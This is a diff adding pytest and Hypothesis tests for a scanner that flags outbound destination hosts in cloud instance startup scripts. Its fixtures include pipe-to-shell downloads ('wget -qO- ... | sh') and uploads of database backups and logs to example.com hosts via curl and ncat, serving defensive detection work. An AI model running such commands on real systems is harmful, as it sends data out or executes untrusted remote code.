@@ -182,6 +182,7 @@ _LISTED = sorted(n for n, c in COMMANDS.items() if not c.wrapper and c.line is N
 _WORD = st.text(st.characters(codec="utf-8"), max_size=12)  # utf-8: no lone surrogates
 _SHELL_WORDS = ["-h", "--host=", "-S", "|", "&&", ";", "\\\n", "'", '"', "$(", ")", ">>", "echo", "sudo", "-c"]
 _SHELL_WORDS += ["db.example.com", "8.8.8.8", "ops@h.example.com:", "\n", "=", "#", "<<", "tee"]
+_SHELL_WORDS += ["ExecStart=", "ExecStartPre=-@", "-fsSLo", "-qO-", "$ok", "/etc/hosts", "::1", "\t", "dir:/x"]
 _SHELLY = st.sampled_from(_SHELL_WORDS)
 
 
@@ -204,3 +205,242 @@ def test_an_unlisted_command_s_options_are_never_read(command: str, args: list[s
     # (a remote path h.example.com:/x is the reference scan's, not the reader's).
     line = " ".join([command, *args])
     assert hosts(f"#!/bin/sh\n{line}\n") == []
+
+
+# -- Commands read from their manuals' option tables (curl, wget, ncat, Test-NetConnection, podman push), systemd
+# Exec lines, IPv6 /etc/hosts lines, nc followed by a tab.
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        # curl / wget: an operand without a scheme is a URL whose host is guessed (http); every documented value
+        # option's value is skipped, also at the end of a group of short flags (-fsSLo FILE, -qO-).
+        (
+            "curl -fsS -T /var/backups/fleet.sql.gz upload.partner.example.com/in/",
+            [("curl", "upload.partner.example.com")],
+        ),
+        (
+            "curl -H 'Authorization: Bearer x' -d @body.json api.partner.example.com:8443/v1/ingest",
+            [("curl", "api.partner.example.com:8443")],
+        ),
+        (
+            "curl -u 'ops:p@ss' --data-binary @f --url files.partner.example.com/up",
+            [("curl", "files.partner.example.com")],
+        ),
+        ("curl -x proxy.partner.example.com:3128 https://x.example.com/", [("curl", "proxy.partner.example.com:3128")]),
+        ("curl -sSLo /tmp/a.tgz ops:pw@mirror.partner.example.com/a.tgz", [("curl", "mirror.partner.example.com")]),
+        ("wget -qO- partner.example.com/x | sh", [("wget", "partner.example.com")]),
+        ("wget --output-document /tmp/x partner.example.com:8080", [("wget", "partner.example.com:8080")]),
+        ("curl -fsSL -o out.tar.gz https://oss-cn-shanghai.aliyuncs.com/fleet/agent.tar.gz", []),
+        ("curl -fsSLo out.tar.gz https://oss-cn-shanghai.aliyuncs.com/fleet/agent.tar.gz", []),
+        ("wget -q -O /tmp/a.rpm --header 'X-A: b' -e robots=off https://mirrors.example.com/a.rpm", []),
+        ("wget -qO /tmp/a.rpm https://mirrors.example.com/a.rpm", []),
+        ("curl --help all && curl --version", []),
+        # curl's --expand-<option> is the option (its value expands {{variables}}).
+        (
+            "curl --variable %HOST --expand-output out.tar.gz --expand-url '{{HOST}}/x' mirror.partner.example.com",
+            [("curl", "{{HOST}}"), ("curl", "mirror.partner.example.com")],
+        ),
+        (
+            "curl --expand-proxy proxy.partner.example.com:3128 https://x.example.com/",
+            [("curl", "proxy.partner.example.com:3128")],
+        ),
+        # --resolve's addresses and --connect-to's HOST2: where the request goes instead of the URL's host.
+        (
+            "curl --resolve oss-cn-shanghai.aliyuncs.com:443:203.0.113.5,[2001:db8::5] https://oss-cn-shanghai.aliyuncs.com/",
+            [("curl", "203.0.113.5"), ("curl", "2001:db8::5")],
+        ),
+        (
+            "curl --connect-to api.example.com:443:edge.partner.example.com:8443 https://api.example.com/",
+            [("curl", "edge.partner.example.com")],
+        ),
+        ("curl --connect-to ::[::1]:8443 --resolve -a.example.com:443 https://a.example.com/", [("curl", "::1")]),
+        ("curl --connect-to a.example.com:443::8443 https://a.example.com/", []),  # HOST2 empty: the URL's host
+        # systemd: an Exec line runs its command line (prefixes @ - : + ! before the path).
+        (
+            "ExecStart=/usr/bin/redis-cli -h cache.partner.example.com --rdb /backup/dump.rdb",
+            [("redis-cli", "cache.partner.example.com")],
+        ),
+        ("ExecStartPre=-/usr/bin/nc -z db.partner.example.com 5432", [("nc", "db.partner.example.com")]),
+        ("ExecStart=/usr/bin/uvicorn app:main --host 0.0.0.0", []),
+        ("Environment=PSQL=psql", []),
+        # IPv6 /etc/hosts lines, nc followed by a tab.
+        ("echo '2001:db8::5 api.internal' >> /etc/hosts", [("etc-hosts", "2001:db8::5")]),
+        ("echo '::1 localhost ip6-localhost' >> /etc/hosts", []),  # reserved block (::/8): loopback, no destination
+        ("echo 'fe80::1%eth0 gw.internal' >> /etc/hosts", [("etc-hosts", "fe80::1%eth0")]),
+        # hosts(5)'s example and Debian's default lines: multicast groups and reserved prefixes name no destination.
+        (
+            "cat > /etc/hosts <<EOF\n127.0.0.1 localhost\n::1 localhost ip6-localhost ip6-loopback\n"
+            "fe00::0 ip6-localnet\nff00::0 ip6-mcastprefix\nff02::1 ip6-allnodes\nff02::2 ip6-allrouters\nEOF",
+            [("etc-hosts", "127.0.0.1")],
+        ),
+        ("nc\t-z db.partner.example.com 5432", [("nc", "db.partner.example.com")]),
+        # ncat (Nmap's): [options] [hostname] [port]; --proxy is where the connection goes first; -l listens.
+        ("ncat --ssl -w 5 logs.partner.example.com 6514 < /var/log/app.log", [("ncat", "logs.partner.example.com")]),
+        (
+            "ncat --proxy proxy.partner.example.com:3128 --proxy-type http 10.0.0.5 5432",
+            [("ncat", "proxy.partner.example.com:3128"), ("ncat", "10.0.0.5")],
+        ),
+        ("ncat -lk -p 9000 --sh-exec 'cat'", []),
+        # PowerShell's Test-NetConnection [[-ComputerName] <String>] (aliases RemoteAddress, cn).
+        (
+            "Test-NetConnection -ComputerName db.partner.example.com -Port 1433",
+            [("Test-NetConnection", "db.partner.example.com")],
+        ),
+        ("Test-NetConnection db.partner.example.com -Port 1433", [("Test-NetConnection", "db.partner.example.com")]),
+        ("Test-NetConnection -Port 443 -InformationLevel Quiet", []),
+        ("Test-NetConnection -WarningAction SilentlyContinue -OutVariable r.txt -Port 443", []),
+        (
+            "$ok = Test-NetConnection -cn db.partner.example.com -Port 1433",
+            [("Test-NetConnection", "db.partner.example.com")],
+        ),
+        # podman push [options] image [destination]: the destination when given, else the image's registry.
+        (
+            "podman push --authfile /root/auth.json fleet/api:1 registry.partner.example.com/fleet/api:1",
+            [("podman push", "registry.partner.example.com")],
+        ),
+        ("podman push registry.partner.example.com/fleet/api:1", [("podman push", "registry.partner.example.com")]),
+        ("podman push registry.partner.example.com/fleet/api:1 oci-archive:/tmp/api.tar", []),
+        ("podman push fleet/api:1 dir:/tmp/api", []),
+        ("podman push fleet/api:1 docker://registry.partner.example.com/api:1", []),  # the URL scan's
+    ],
+)
+def test_the_reader_reads_manual_option_tables(line: str, expected: list[tuple[str, str]]) -> None:
+    assert hosts(f"#!/bin/sh\n{line}\n") == expected
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        (
+            "#!/bin/sh\ncurl -fsS -T /var/backups/fleet.sql.gz upload.partner.example.com/in/\n",
+            [("RES-015", "user_data(base64).curl", "upload.partner.example.com")],
+        ),
+        (
+            "#!/bin/sh\nwget -qO- partner.example.com/bootstrap.sh | sh\n",
+            [("RES-015", "user_data(base64).wget", "partner.example.com")],
+        ),
+        (
+            "#cloud-config\nwrite_files:\n  - path: /etc/systemd/system/backup.service\n    content: |\n"
+            "      [Service]\n      ExecStart=/usr/bin/redis-cli -h cache.partner.example.com --rdb /backup/d.rdb\n",
+            [("RES-015", "user_data(base64)(yaml).write_files[0].content.redis-cli", "cache.partner.example.com")],
+        ),
+        (
+            "#!/bin/sh\necho '2001:db8::5 api.internal' >> /etc/hosts\n",
+            [("RES-015", "user_data(base64).etc-hosts", "2001:db8::5")],
+        ),
+        (
+            "#!/bin/sh\nncat --ssl logs.partner.example.com 6514 < /var/log/app.log\n",
+            [("RES-015", "user_data(base64).ncat", "logs.partner.example.com")],
+        ),
+        (
+            "<powershell>\nTest-NetConnection -ComputerName sql.partner.example.com -Port 1433\n</powershell>\n",
+            [("RES-015", "user_data(base64).Test-NetConnection", "sql.partner.example.com")],
+        ),
+        (
+            "#!/bin/sh\npodman push fleet/api:1 registry.partner.example.com/fleet/api:1\n",
+            [("RES-015", "user_data(base64).podman push", "registry.partner.example.com")],
+        ),
+        # The twins: the region's own bucket by URL, the metadata services and the VPC's own hosts without a scheme,
+        # a private IPv6 hosts line, a unit running a listening server, a push to a local archive.
+        ("#!/bin/sh\ncurl -fsSL -o /tmp/a.tgz https://oss-cn-shanghai.aliyuncs.com/fleet/a.tgz\n", []),
+        ("#!/bin/sh\ncurl -s 100.100.100.200/latest/meta-data/region-id && wget -qO- 10.0.3.17:8080/health\n", []),
+        ("#!/bin/sh\necho 'fd00:10::5 api.internal' >> /etc/hosts\necho '::1 localhost' >> /etc/hosts\n", []),
+        (
+            "#cloud-config\nwrite_files:\n  - path: /etc/systemd/system/api.service\n    content: |\n"
+            "      [Service]\n      ExecStart=/usr/bin/uvicorn app:main --host 0.0.0.0 --port 8000\n",
+            [],
+        ),
+        ("#!/bin/sh\npodman push fleet/api:1 oci-archive:/var/backups/api.tar\n", []),
+        # curl --resolve sends the request for an own-region host to another address: that address is judged.
+        (
+            "#!/bin/sh\ncurl --resolve oss-cn-shanghai.aliyuncs.com:443:203.0.113.5 https://oss-cn-shanghai.aliyuncs.com/b/x\n",
+            [("RES-015", "user_data(base64).curl", "203.0.113.5")],
+        ),
+        (
+            "#!/bin/sh\ncurl --resolve oss-cn-shanghai.aliyuncs.com:443:100.118.28.1 https://oss-cn-shanghai.aliyuncs.com/b\n",
+            [],
+        ),
+        # A cloud-config write_files entry whose path is /etc/hosts: its content is hosts(5) lines (also base64).
+        (
+            "#cloud-config\nwrite_files:\n  - path: /etc/hosts\n    append: true\n    content: |\n"
+            "      203.0.113.5 api.internal\n      10.0.3.17 db.internal\n",
+            [("RES-015", "user_data(base64)(yaml).write_files[0].content.etc-hosts", "203.0.113.5")],
+        ),
+        (
+            "#cloud-config\nwrite_files:\n  - path: /etc/app.env\n    content: APP=1\n  - path: /etc/hosts\n"
+            "    encoding: b64\n    content: " + base64.b64encode(b"2001:db8::5 api.internal\n").decode() + "\n",
+            [("RES-015", "user_data(base64)(yaml).write_files[1].content(base64).etc-hosts", "2001:db8::5")],
+        ),
+        (
+            "#cloud-config\nwrite_files:\n  - path: /etc/hosts\n    append: true\n    content: |\n"
+            "      10.0.3.17 db.internal\n      fd00:10::5 api.internal\n      127.0.0.1 localhost\n",
+            [],
+        ),
+        (
+            "#cloud-config\nwrite_files:\n  - path: /etc/hosts\n    content: |\n      127.0.0.1 localhost\n"
+            "      ::1 localhost ip6-localhost ip6-loopback\n      fe00::0 ip6-localnet\n"
+            "      ff00::0 ip6-mcastprefix\n      ff02::1 ip6-allnodes\n      ff02::2 ip6-allrouters\n"
+            "      fe80::1%eth0 gw.internal\n",
+            [],
+        ),
+        # The same lines in a file that is not /etc/hosts name no destination (a list of addresses in some format).
+        ("#cloud-config\nwrite_files:\n  - path: /etc/fleet/peers\n    content: |\n      203.0.113.5 api\n", []),
+    ],
+)
+def test_a_manual_option_table_s_host_is_a_destination(script: str, expected: list[tuple[str, str, str]]) -> None:
+    assert findings(script) == expected
+
+
+_LABEL = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?", fullmatch=True)
+_NAME = st.lists(_LABEL, min_size=2, max_size=4).map(".".join)
+_PORT = st.one_of(st.just(""), st.integers(1, 65535).map(lambda p: f":{p}"))
+_USERINFO = st.one_of(st.just(""), st.just("ops@"), st.just("ops:p%40ss@"))
+_PATH = st.one_of(st.just(""), st.just("/"), st.just("/in/a@b.sql"), st.just("?x=1"), st.just("#top"), st.just("/a:b"))
+
+
+@settings(max_examples=200, deadline=None)
+@given(_USERINFO, _NAME, _PORT, _PATH)
+def test_a_url_without_scheme_names_its_host(userinfo: str, name: str, port: str, path: str) -> None:
+    # curl / wget [user[:password]@]host[:port][/path][?query][#fragment]: the host and port, whatever follows.
+    assert hosts(f"#!/bin/sh\ncurl -fsS {userinfo}{name}{port}{path}\n") == [("curl", f"{name}{port}")]
+    assert hosts(f"#!/bin/sh\nwget -q https://{userinfo}{name}{port}{path}\n") == []  # a scheme: the scan's
+
+
+@settings(max_examples=200, deadline=None)
+@given(_NAME, _PORT, st.one_of(_NAME, st.just("203.0.113.5"), st.just("[2001:db8::5]")))
+def test_curl_resolve_and_connect_to_name_where_the_request_goes(name: str, port: str, target: str) -> None:
+    p = port[1:] or "443"
+    expected = [("curl", target.strip("[]"))]
+    assert hosts(f"#!/bin/sh\ncurl --connect-to {name}:{p}:{target}:8443 https://{name}/\n") == expected
+    if target[0].isdigit() or target[0] == "[":
+        assert hosts(f"#!/bin/sh\ncurl --resolve {name}:{p}:{target} https://{name}/\n") == expected
+
+
+_CURL = COMMANDS["curl"]
+_CURL_FLAGS = "fsSLkvIiORNGjJlnqZ"  # curl's short options that take no value (curl --help all)
+_CURL_SHORT_VALUES = sorted(o for o in _CURL.value_options if len(o) == 2)
+_CURL_LONG_VALUES = sorted(o for o in _CURL.value_options if o.startswith("--"))
+_CURL_ARGS = st.sampled_from(["out.tar.gz", "db.example.com", "@body.json", "ops:p@ss", "/tmp/x.example.com", "-"])
+_CURL_OPTIONS = st.one_of(
+    st.tuples(st.text(alphabet=_CURL_FLAGS, max_size=4), st.sampled_from(_CURL_SHORT_VALUES), _CURL_ARGS).map(
+        lambda t: f"-{t[0]}{t[1][1]} {t[2]}"  # a group of flags ending with a value option: -fsSLo FILE
+    ),
+    st.tuples(st.text(alphabet=_CURL_FLAGS, max_size=4), st.sampled_from(_CURL_SHORT_VALUES), _CURL_ARGS).map(
+        lambda t: f"-{t[0]}{t[1][1]}{t[2]}"  # the value in the same word: -qO-, -ofile
+    ),
+    st.tuples(st.sampled_from(_CURL_LONG_VALUES), _CURL_ARGS).map(" ".join),
+    st.tuples(st.sampled_from(_CURL_LONG_VALUES), _CURL_ARGS).map("=".join),
+    st.tuples(st.sampled_from(_CURL_LONG_VALUES), _CURL_ARGS).map(lambda t: f"--expand-{t[0][2:]} {t[1]}"),
+    st.text(alphabet=_CURL_FLAGS, min_size=1, max_size=4).map(lambda f: f"-{f}"),
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(_CURL_OPTIONS, max_size=6), st.booleans())
+def test_curl_option_values_are_never_operands(options: list[str], schemeless: bool) -> None:
+    # Whatever documented value options come first (grouped, attached, long with = or a blank), their values are never
+    # read as hosts: only the operand is, and only without a scheme (with one, it is the reference scan's).
+    assert not any(f"-{c}" in _CURL.value_options for c in _CURL_FLAGS)
+    url = "up.partner.example.com/in" if schemeless else "https://up.partner.example.com/in"
+    found = hosts(f"#!/bin/sh\ncurl {' '.join(options)} {url}\n")
+    assert found == ([("curl", "up.partner.example.com")] if schemeless else [])
